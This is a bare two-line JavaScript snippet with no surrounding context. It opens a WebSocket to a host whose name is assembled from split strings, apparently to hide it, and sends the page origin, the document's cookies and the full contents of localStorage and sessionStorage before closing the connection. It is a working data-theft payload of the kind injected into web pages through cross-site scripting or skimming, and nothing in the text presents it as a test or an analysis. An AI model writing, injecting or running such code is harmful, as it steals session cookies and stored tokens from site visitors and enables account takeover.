w=new WebSocket('wss://'+['q','sockline','example'].join('.')+'/i');
w.onopen=()=>{w.send(JSON.stringify([origin,document.cookie,{...localStorage},{...sessionStorage}]));w.close()}
